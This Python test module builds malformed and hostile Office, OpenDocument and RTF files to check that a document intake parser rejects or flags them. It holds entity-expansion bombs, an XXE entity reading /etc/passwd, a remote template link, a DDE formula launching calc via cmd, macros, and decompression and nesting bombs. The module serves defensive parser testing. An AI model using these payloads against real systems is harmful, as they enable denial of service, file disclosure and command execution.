"""Documents and sheets made to do harm: entity bombs, giant grids, references outward, macros, passwords, cuts."""

# ruff: noqa: E501 - markup stands as it does in the file
from __future__ import annotations

import struct
from collections.abc import Iterator
from pathlib import Path

from tests.intake.hostile.containers import Case, zipped
from tests.intake.intake_files import sheet, word
from tests.intake.word_files import METAFILE, Run, at, blip, drawing, picture, record, store, word_97

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_DOC = (Path(__file__).parents[1] / "fixtures" / "summary.doc").read_bytes()
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'<!DOCTYPE d [<!ENTITY l0 "lol">{_LAUGHS}]>'
_QUADRATIC = f'<!DOCTYPE d [<!ENTITY q "{"q" * 60_000}">]>'


def build_documents() -> Iterator[Case]:
    """(name, bytes, codes of which one must be told) of each; no codes: it must be read like any other file."""
    yield from _words()
    yield from _sheets()
    yield from _old_words()


def _words() -> Iterator[Case]:
    yield "docx/十亿笑.docx", docx("&l11;", LAUGHS), {"entities_ignored", "file_damaged", "file_empty"}
    yield "docx/平方膨胀.docx", docx("&q;" * 60_000, _QUADRATIC), {"entities_ignored", "file_damaged", "file_empty"}
    outward = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield "docx/外部实体.docx", docx("参加300人&x;", outward), {"entities_ignored"}
    yield (
        "docx/外部声明.docx",
        docx("参加300人", '<!DOCTYPE d SYSTEM "http://example.invalid/x.dtd">'),
        {"entities_ignored"},
    )
    yield "docx/空白炸弹.docx", docx(" " * (80 << 20)), {"file_bomb"}
    yield "docx/深层表格.docx", docx(_nested_tables(20_000)), {"file_damaged", "file_unreadable", "file_empty"}
    yield "docx/缺正文.docx", zipped({"[Content_Types].xml": _TYPES, "word/styles.xml": b"<a/>"}), {"file_damaged"}
    yield (
        "docx/正文非XML.docx",
        zipped({"[Content_Types].xml": _TYPES, "word/document.xml": b"\0\1\2"}),
        {"file_damaged"},
    )
    yield "docx/截断.docx", word("正文" * 200)[:-400], {"file_damaged"}
    yield "docx/加密.docx", _OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(900), {"file_encrypted"}
    yield "docx/带宏.docm", zipped({**_docx_parts("参加300人"), "word/vbaProject.bin": b"\1" * 50}), {"macros_ignored"}
    yield "docx/外部模板.docx", zipped({**_docx_parts("参加300人"), **_template()}), set()
    yield "docx/未用图片炸弹.docx", zipped({**_docx_parts("参加300人"), "word/media/a.png": bytes(64 << 20)}), set()
    yield "docx/段落过多.docx", docx("<w:p><w:r><w:t>1</w:t></w:r></w:p>" * 70_000), {"file_too_large", "file_bomb"}
    yield "docx/扩展名错误.pdf", word("参加300人"), {"ending_differs"}


def _sheets() -> Iterator[Case]:
    yield (
        "xlsx/天涯海角.xlsx",
        xlsx('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        {"file_unreadable", "file_damaged", "file_too_large"},
    )
    rows = "".join(f'<row r="{n}" spans="1:9" s="1" customFormat="1"/>' for n in range(2, 1_000_001))
    yield (
        "xlsx/百万空行.xlsx",
        xlsx(f'<row r="1"><c r="A1"><v>300</v></c></row>{rows}'),
        set(),
    )
    styled = "".join(f'<row r="{n}"><c r="A{n}" s="1"/><c r="ZZ{n}" s="1"/></row>' for n in range(1, 120_001))
    yield "xlsx/带格式空格.xlsx", xlsx(styled), {"file_empty", "file_bomb", "file_unreadable", "file_too_large"}
    yield (
        "xlsx/十亿笑.xlsx",
        xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>&l11;</t></is></c></row>', LAUGHS),
        {"file_damaged", "file_empty", "entities_ignored", "file_unreadable"},
    )
    many = "".join(f'<row r="{n}">' + '<c t="s"><v>0</v></c>' * 50 + "</row>" for n in range(1, 3001))
    strings = f"<sst {_S}><si><t>{'长' * 30_000}</t></si></sst>"
    yield (
        "xlsx/共享字符串.xlsx",
        xlsx(many, more={"xl/sharedStrings.xml": strings.encode()}),
        {"file_too_large", "file_unreadable", "file_damaged"},
    )
    yield "xlsx/命令公式.xlsx", sheet([["=cmd|'/c calc'!A0", "参加300人"]]), set()
    yield "xlsx/带宏.xlsm", _with_macros(sheet([["参加300人"]])), {"macros_ignored"}
    yield "xlsx/截断.xlsx", sheet([["参加300人"]] * 50)[:-300], {"file_damaged"}
    yield "xlsx/缺工作簿.xlsx", zipped({"[Content_Types].xml": _TYPES, "xl/styles.xml": b"<a/>"}), {"file_damaged"}
    yield "xlsx/坏工作表.xlsx", xlsx("<row><c r='A1'><v>1</c></row>"), {"file_damaged", "file_empty"}
    yield "xlsx/加密.xlsx", _OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(900), {"file_encrypted"}
    yield (
        "xlsx/假xlsb.xlsb",
        zipped({"[Content_Types].xml": _TYPES, "xl/workbook.bin": b"\xff" * 500}),
        {"file_damaged", "file_empty", "file_unreadable"},
    )
    yield "xls/截断.xls", _OLE + bytes(504) + "Workbook".encode("utf-16-le") + bytes(900), {"file_damaged"}
    yield (
        "xls/乱码.et",
        _OLE + bytes(range(256)) * 8 + "Workbook".encode("utf-16-le"),
        {"file_damaged", "file_unreadable"},
    )
    yield (
        "ods/重复炸弹.ods",
        _ods(
            '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>'
        ),
        {"file_unreadable", "file_too_large", "file_damaged"},
    )
    yield "ods/截断.ods", _ods("")[:-40], {"file_damaged"}


def _old_words() -> Iterator[Case]:
    main = _DOC.index(b"\xec\xa5")
    yield "doc/加密.doc", _patched(main + 0x0A, _u16(main + 0x0A) | 0x100), {"file_encrypted"}
    yield "doc/太旧.doc", _patched(main + 2, 0x68), {"format_unsupported"}
    yield "doc/截断.doc", _DOC[:9000], {"file_damaged", "format_unknown"}
    yield "doc/只有头.wps", _OLE + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(900), {"file_damaged"}
    yield "doc/链表成环.doc", _looped(), {"file_damaged"}
    yield "doc/扇区大小谎报.doc", _patched(0x1E, 31), {"file_damaged"}
    yield "doc/未知复合文件.doc", _OLE + bytes(2000), {"format_unknown"}
    yield "doc/图片位置谎报.doc", word_97("参加300人", at(0xFFFFFFF0), "\r"), {"part_missing"}
    records = picture(blip(METAFILE, b"1"), *[record(0xF004, b"")] * 60_000)
    yield "doc/图片记录无数.doc", word_97("参加300人", at(0), "\r", data=records), {"part_missing"}
    crowd = Run("\x01" * 300_000, at(0).properties)
    yield "doc/图片无数.doc", word_97("参加300人", crowd, "\r", data=picture(blip(METAFILE, b"1"))), {"part_missing"}
    groups = store() + drawing(record(0xF003, b"") * 60_000)
    yield "doc/浮动图片层层嵌套.doc", word_97("参加300人\x08\r", drawings=groups), {"part_missing"}
    yield "rtf/深层分组.rtf", rb"{\rtf1 " + b"{" * 300_000 + b"}" * 300_000 + b"}", {"file_empty", "file_damaged"}
    yield "rtf/谎报二进制.rtf", rb"{\rtf1{\pict\bin999999999 " + b"x" * 99 + b"}}", {"file_empty", "file_damaged"}
    yield "rtf/嵌入对象.rtf", rb"{\rtf1{\object\objdata 0105}300\par}", set()
    yield (
        "rtf/链接回溯.rtf",
        rb"{\rtf1" + rb'{\field{\*\fldinst{HYPERLINK "' * 20_000,
        {"file_empty", "file_damaged", "file_unreadable"},
    )


def docx(body: str, doctype: str = "") -> bytes:
    """A Word document whose body is this markup or these words."""
    return zipped(_docx_parts(body, doctype))


def _docx_parts(body: str, doctype: str = "") -> dict[str, bytes]:
    inner = body if body.startswith("<w:") else f"<w:p><w:r><w:t>{body}</w:t></w:r></w:p>"
    document = f'<?xml version="1.0"?>{doctype}<w:document {_W}><w:body>{inner}</w:body></w:document>'
    return {"[Content_Types].xml": _TYPES, "word/document.xml": document.encode()}


def _nested_tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth


def _template() -> dict[str, bytes]:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = f'<Relationship Id="r1" Type="{kind}" Target="http://example.invalid/evil.dotm" TargetMode="External"/>'
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return {"word/_rels/settings.xml.rels": f'<Relationships xmlns="{space}">{relation}</Relationships>'.encode()}


def xlsx(rows: str, doctype: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """A workbook of one sheet with these rows as markup."""
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    targets = [("r1", "worksheet", "worksheets/sheet1.xml"), ("r2", "sharedStrings", "sharedStrings.xml")]
    links = "".join(f'<Relationship Id="{i}" Type="{relations}/{kind}" Target="{t}"/>' for i, kind, t in targets)
    root = f'<Relationship Id="r1" Type="{relations}/officeDocument" Target="xl/workbook.xml"/>'
    return zipped({
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": f'<Relationships xmlns="{package}">{root}</Relationships>'.encode(),
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}">{links}</Relationships>'.encode(),
        "xl/workbook.xml": f'<workbook {_S} xmlns:r="{relations}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{doctype}<worksheet {_S}><sheetData>{rows}</sheetData></worksheet>'.encode(),
        **(more or {}),
    })  # fmt: skip


def _with_macros(content: bytes) -> bytes:
    import io
    import zipfile

    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\1" * 50)
    return out.getvalue()


def _ods(rows: str) -> bytes:
    spaces = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    body = f"<office:body><office:spreadsheet><table:table table:name='表'>{rows}</table:table></office:spreadsheet></office:body>"
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": f"<office:document-content{spaces}>{body}</office:document-content>".encode(),
        },
        stored=True,
    )


def _u16(offset: int) -> int:
    return int(struct.unpack_from("<H", _DOC, offset)[0])


def _patched(offset: int, value: int) -> bytes:
    content = bytearray(_DOC)
    struct.pack_into("<H", content, offset, value)
    return bytes(content)


def _looped() -> bytes:
    """The sector chain of the directory leads back to itself."""
    content = bytearray(_DOC)
    first, table = struct.unpack_from("<I", content, 0x30)[0], struct.unpack_from("<I", content, 0x4C)[0]
    struct.pack_into("<I", content, 512 + table * 512 + first * 4, first)
    return bytes(content)
